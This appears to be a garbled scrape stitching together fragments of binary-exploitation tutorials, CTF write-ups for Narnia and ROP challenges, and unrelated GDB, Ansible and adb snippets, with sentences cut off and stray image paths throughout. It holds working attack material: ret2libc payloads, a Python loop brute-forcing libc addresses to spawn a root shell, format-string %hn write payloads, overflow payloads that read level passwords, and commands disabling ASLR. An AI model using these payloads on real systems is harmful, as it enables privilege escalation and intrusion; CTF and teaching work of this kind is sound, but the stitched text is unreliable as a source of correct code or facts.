Gdb find /bin/sh

printf ("%6`\ d:raw-latex:`\n`", 6, 5, 4,3, 2, 1); Prints ‘1’, because the ‘6$’ explicitly addresses the 6th parameter on the stack.for i in `seq 1 5`; do ldd ovrflw | grep libc; done libc.so.6 => /lib/i386-linux-gnu/libc.so.6 (0xb762f000) libc.so.6 => /lib/i386-linux-gnu/libc.so.6 (0xb758f000) libc.so.6 => /lib/i386-linux-gnu/libc.so.6 (0xb75ae000) However, if we notice the libc address in not changing much, first three characters and last three characters remain the same. Because, the machine we are doing would be probably a CTF machine, so we can brute-force the possible libc address. It is suggested to figure out the offset of system, exit and string “/bin/sh” from the libc base address. Remember,

The target program that I’ve chosen doesn’t explicitly use system(), therefore one cannot find its address using print 'system@plt'. (I'll write about PLT - Procedure Linkage Table - and GOT - Global Offsets Table - in the coming posts.) We'll have to print the address of system() at run-time.So you’re printing your parameters, a buffer, the address of libc? Another buffer and then the address of system?readelf -s /lib/i386-linux-gnu/libc.so.6 | grep system 246: 00113d70 68 FUNC GLOBAL DEFAULT 13 svcerr_systemerr@@GLIBC_2.0 628: 0003ab40 55 FUNC GLOBAL DEFAULT 13 __libc_system@@GLIBC_PRIVATE 1461: 0003ab40 55 FUNC WEAK DEFAULT 13 system@@GLIBC_2.0 Exit functionRequest: Implement gdb-peda's find or searchmem #2

what is radare2's equivalent to GDB's 'find &system,+9999999,/bin/sh

kr@k3n@ubuntu:~/target$ echo “0” | sudo dd of=/proc/sys/kernel/randomize_va_space0+1 records in0+1 records out2 bytes copied, 0.000160017 s, 12.5 kB/s$> (python -c 'print("\xef\xbe\xad\xde")'; cat) | ./program Or, finally, if you are going through the network:

ROP (Return Oriented Programming) - The - Zolmeister - by Zoli Kaha

  1. When you get a binary for exploitation, we need to find whether it is 32-bit or 64-bit ELF, which platform it is running, whether any buffer overflow prevention techniques has been used, what is EIP offset.
  2. (gdb) run `python -c 'print "A"*20 + "\x28\xd8\xff\xff" + "A"*12+ "\xd4\xd8\xff\xff"'` The program being debugged has been started already. Start it from the beginning? (y or n) y Starting program: /games/narnia/narnia8 `python -c 'print "A"*20 + "\x28\xd8\xff\xff" + "A"*12 + "\xd4\xd8\xff\xff"'` Breakpoint 1, 0x080484a7 in func () (gdb) c Continuing. process 19900 is executing new program: /bin/dash Error in re-setting breakpoint 1: No symbol table is loaded. Use the "file" command. Error in re-setting breakpoint 1: No symbol "func" in current context. Error in re-setting breakpoint 1: No symbol "func" in current context. Error in re-setting breakpoint 1: No symbol "func" in current context. $ Trying this without gdb didn’t work because the address ofcharacter array changes
  3. To print lines from a source file, use the list command (abbreviated l). By default, ten lines are printed. There are several ways to specify what part of the file you want to print.
  4. GDB is meant to be a source-level debugger for high level languages and isn't very good at debugging assembly. So various tricks are required to get adequate results. The OS/161 toolchain tells the assembler to emit line number information for assembly files, but as noted above (under list) you..
  5. echo 0 > /proc/sys/kernel/randomize_va_space Then, we run our payload. You will see that we got a shell.
  6. gdb rop3 (gdb) break main (gdb) run (gdb) print system $1 = {<text variable, no debug info>} 0xf7e68250 <system> Alright, system is at 0xf7e68250, which in escaped little endian looks like: \x50\x82\xe6\xf7.
  7. # gdb --pid Start GDBand attach to process. set args Set arguments to pass to program to be debugged

0xffffd670: 0x08048580 0xffffd688 0x00000014 0xf7e54f53 0xffffd680: 0x00000000 0x00ca0000 0x41414141 0x41414141 0xffffd690: 0x41414141 0x41414141 0x00414141 0xffffd8b1 0xffffd6a0: 0x00000002 0xffffd764 0xffffd6c8 0x080484cd 0xffffd6b0: 0xffffd8b1 0xf7ffd000 0x080484fb 0xf7fca000 Address 0xffffd689 marks the start of the character buffer bok. I entered 19 A so it’s 0x41 19 times followed by null 0x00. Followed by that is 0xffffd8b1 (Value of Blah pointer). Followed by fp 12 bytes <0x00000002 0xffffd764 0xffffd6c8>. Followed by 0x080484cd which is the return address Command 'python' not found, but can be installed with: sudo apt install python3 sudo apt install python sudo apt install python-minimal. The reason our Ansible failed even though python3 is installed is because Ansible still tries to use Python 2 (/usr/bin/python) bydefault

I’ll be using gdb as my debugger of choice. You're free to use any debugger according to your comfort level. Run cargo init --bin test && cd test then modify the src/main.rs file to have to have the following Let's scaffold out a super basic application to test our debugging on before we get on to any real experimentation. We'll run cargo init --bin example and set src/main.rs t #include <stdio.h> char name[64] = {0}; int main() { code_snippet} Or dynamically allocated on the heap like/usr/share/metasploit-framework/tools/exploit/pattern_offset.rb -q 0x64413764 We can see that the buffer size is 112.

Immediately after system() is called, the stack frame is expected to contain thereturn address and the argument to system(). To find the sources GDB parses .debug_info section to find all DIEs with tag DW_TAG_compile_unit. The DIE with this tag has 2 main attributes DW_AT_comp_dir (compilation GDB uses debug info stored in DWARF format to find source level info. DWARF is pretty straightforward format - basically..

GDB online isonline compiler and debugger tool for C/C++ language. You can compile with gcc/g++ and can debug using gdb. In interactive console mode, you can run as long as program is finished or until we find user inactivity for longer than 15 mins HOB:0x0804 LOB:0x8706 If HOB < LOB [addr+2][addr] = \x4e\xd\xff\xff\x4c\xd\xff\xff %.[HOB - 8]x = 0x804 - 8 = 7FC (2044) = %.2044x %[offset]$hn = %6\$hn %.[LOB - HOB]x = 0x8706 - 0x804 = 7F02 (32514) = %.32514x %[offset+1]`\ hn = %7$hn python -c 'print "\x4e\xd6\xff\xff\x4c\xd6\xff\xff" +"%.2044x%6\$hn %.32514x%7\$hn"' Shared Library¶ A library whose code segment can be shared among multiple processes and whose data segment is unique to each process is called a Shared Library, thereby saving huge amount of RAM and disk space. Shared library is also referred using other names like dynamic library, shared object files, DSO and DLL(Windows). Gdb lets you see the internal structure of a program, print out variable values, set breakpoints and single step through source code. It makes an extremely powerful tool for fixing problems in program code. In this article I'll try to show how cool and useful gdb is

system("/bin/sh"); to get a shell. We may also refer Linux x86 Program Start Up or - How the heck do we get tomain()? to understand what happens when we execute a linux binary (shared not static).export EGG=`python -c 'print "\xCC"'` It should sigtrap. “xCC” acts as a software breakpoint, basically an INT3, It tells you whether your shellcode is stored properly & executed, if the program receives SIGTRAP, you know you’re good to go, and it’s a good way to make sure you’ve properly redirected execution to your shellcode. You can further put “xCC” anywhere in the shellcode, if it crashes before “xCC”, you know for sure that your shellcode has bad characters. They suggested to export the EGG variable as So I follow the instructions on the wiki I skip the mount -o rw,remount..blah bah command because I read that the simple adb remount is the best way before you actually open the adb shell. When I type cat /system/bin/sh > /system/bin/su it.. I run the following commands: > gdb > gdb main. and the result is. gdb: command not found.The most important is the presence in the /usr/bin/gdb directory where all executes files are present. If the o/p of whereis -b gdb returns null, u need to install gdb

Bin runs normally when called from a terminal. When clicking Execute the following message returns in a new terminal window: Unable to find a shell Also, the geany_run_script.sh is created, as it should There is the ‘%n’ parameter, which writes the number of bytes already printed, into a variable of our choice. The address of the variable is given to the format function by placing an integer pointer as parameter onto the stack. But if we supply a correct mapped and writeable address this works and we overwrite four bytes (sizeof (int)) at the address:

Eclipse with GDB is great: it comes with a graphical front end for debugging. But sometimes it is all about to download a program. Is it really necessary to launch an IDE like Eclipse to program or quickly debug a board? With the GNU Debugger (GDB), the answer is 'no': GDB comes with a comman gcc -ggdb -m32 -fno-stack-protector -z execstack -o buffer1 buffer1.c Address Space Layout Randomization (ASLR) controlled by /proc/sys/kernel/randomize_va_space. Three Values: 0 : Disable ASLR. This setting is applied if the kernel is booted with the norandmaps boot parameter. 1 : Randomize the positions of the stack, virtual dynamic shared object (VDSO) page, and shared memory regions. The base address of the data segment is located immediately after the end of the executable code segment. 2 : Randomize the positions of the stack, VDSO page, shared memory regions, and the data segment. This is the default setting.You can change the setting temporarily by writing a new value to /proc/sys/kernel/randomize_va_space, for example:After the 4 bytes of garbage will come the parameter to function system. In this case it’s a string, which we found earlier! so fill it in here (for me it was 0xffff3d28) : "\x28\x3d\xff\xff".void hello () { static char hello[] = "hello-hello"; static struct { char c; short s; int i; } __attribute__ ((packed)) mixed = { 'c', 0x1234, 0x87654321 }; printf ("%s\n", hello); } you get during debugging:

narnia6@melinda:/narnia$ ./narnia6 `python -c 'print "A"*8 + "\x40\x1c\xe6\xf7" + " " + "C"*8 + "/bin/sh"'` $ cat /etc/narnia_pass/narnia7 Let’s see another example where we have to use a environment variable to invoke a shell Narnia8. #include <stdio.h> #include <stdlib.h> #include <string.h> // gcc's variable reordering fucked things up // to keep the level in its old style i am // making "i" global unti i find a fix // -morla int i; void func(char *b){ char *blah=b; char bok[20]; //int i=0; memset(bok, '\0', sizeof(bok)); for(i=0; blah[i] != '\0'; i++) bok[i]=blah[i]; printf("%s\n",bok); } int main(int argc, char **argv){ if(argc > 1) func(argv[1]); else printf("%s argument\n", argv[0]); return 0; } Let’s see what is happening here: for loop in function func copies data from blah to bok character array until a null character is found. Let’s see how the stack would look likeSo let’s look at some really, really vulnerable code (seriously don’t ever write stuff like this)The address of the last value found is stored in convenience variable ‘$_’. A count of the number of matches is stored in ‘$numfound’.

Debugging with GDB: Searching Memor

id uid=1796(user1792) gid=3009(rop3) groups=1797(user1792),1002(webshell) Now for ROP 4 (by writing this, I was able to then go back and solve it). gdb is the acronym for GNU Debugger. This tool helps to debug the programs written in C, C++, Ada, Fortran, etc. The console can be openedusing the To start the debugger of the above gfg executablefile, enter the command gdb gfg. It opens the gdb console of the current program, after printing the.. Note that the executable search path is not used to locate the source files. Neither is the current working directory, unless it happens to be in the source path.

file /home/flagXX/flagXX /home/flagXX/flagXX: setuid ELF 32-bit LSB executable, Intel 80386, version 1 (SYSV), dynamically linked (uses shared libs), for GNU/Linux 2.6.15, not stripped If so, then we can create a c file to override the functions we want – random(), unlink() and getpid(): make cc -m32 -g -O0 -fno-stack-protector -o crackme0x00 crackme0x00.c -ldl /vagrant/bin/checksec.sh --file crackme0x00 RELRO STACK CANARY NX PIE RPATH RUNPATH FILE Partial RELRO No canary found NX enabled No PIE No RPATH No RUNPATH crackme0x00 Log In Exploiting Techniques \000 - ret2libc Exploit Development IoTh1nkN0t April 3, 2017, 10:17am #1 So it’s been a while since I last wrote an article and I think it’s time for a new one. Since the straight forward smash stacking has already been covered plenty, I decided to start this serie with ret2libc.Getting the input through stdin can be achieve through a wide variety of functions such as fgets(), scanf(), getline(), read() and others. It raises a few problems because theprogram stop while executing and wait to be fed with characters.

We are using Kali Linux to do buffer overflow. We need install peda.py in our Kali Linux. You can click this link to learn how to install it.Thiscauses some issues with the normal Pwntools workflow, since the process heirarchy looks like this:Return to libc attack | FOR-BIN-SEC

Non-executable stack, ASLR Disabled¶

echo value > /proc/sys/kernel/randomize_va_space To change the value permanently, add the setting to /etc/sysctl.conf, for example: I try compiling some large code with the -g option but when I try running the code with gdb it says the emitted code contains no debugging Reading symbols from /cygdrive/c/dev/dotr/src/dotr.exe...(no debugging symbols found)... done GDB's testsuite uses the system's default gcc (and similar) compilers, not those specified on the configure line (open issue gdb?), see find_gcc (and similar) usage in the testsuite and DejaGnu. PASS: ver_matching_test.sh +FAIL: ver_matching_test.sh from subprocess import call import struct libc_addr = 0xb761f000 sys_off_addr = 0x00040310 exit_off_addr = 0x00033260 arg_off_addr = 0x00162bac sys_addr = struct.pack("<I", libc_addr+sys_off_addr) exit_addr = struct.pack("<I", libc_addr+exit_off_addr) arg_addr = struct.pack("<I", libc_addr+arg_off_addr) buf = "A" * 112 buf += sys_addr buf += exit_addr buf += arg_addr i = 0 while (i < 512): print "Try: %s" %i print buf i += i ret = call(["/usr/local/bin/ovrflw", buf]) Finally, we got the root shell. If you use GDB through its GNU Emacs interface, you may prefer to use Emacs facilities to view source; see section Using GDB under GNU Emacs.

#include <stdio.h> void say_hi(const char * name) { printf("Hello %s!\n", name); } int main(int argc, char ** argv) { char * name; if (argc != 2) { return 1; } name = argv[1]; say_hi(name); return 0; } gcc -g hello.c -o hello Put breakpoints at the call of say_hi functionAfter the rest of the stages are completed, and right before the instruction cycle is over, the state of the circuit isupdated (meaning, the wires are generating values for the register file, for the next instruction etc) and once the clock is about tohit high, the clock registers, including EIP/PC will be updated.<bok character array><blah pointer><fp><ret><pointer b> Let’s confirm this by using gdb? We put an breakpoint on printf function in the func function.gcc hacking_randomfile.c -o hacking_randomfile -shared -fPIC Using gcc we’ve specified the normal input file (hacking_randomfile.c) and output file (-o hacking_randomfile), but we’ve also specified two additional options:

CTF Series : Binary Exploitation — tech

  1. gdb-peda$ pdisass 0x8049788 Dump of assembler code from0x8049788 to 0x80497a8: 0x08049788 <printf@got.plt+0>: add DWORD PTR ss:[eax+ecx*1],0x46 0x0804978d <fgets@got.plt+1>: add DWORD PTR [eax+ecx*1],0x56 0x08049791 <puts@got.plt+1>: add DWORD PTR [eax+ecx*1],0x66 0x08049795 <__gmon_start__@got.plt+1>: add DWORD PTR [eax+ecx*1],0x76 0x08049799 <__libc_start_main@got.plt+1>: add DWORD PTR [eax+ecx*1],0x0 0x0804979d <data_start+1>: add BYTE PTR [eax],al 0x0804979f <data_start+3>: add BYTE PTR [eax],al 0x080497a1 <__dso_handle+1>: add BYTE PTR [eax],al 0x080497a3 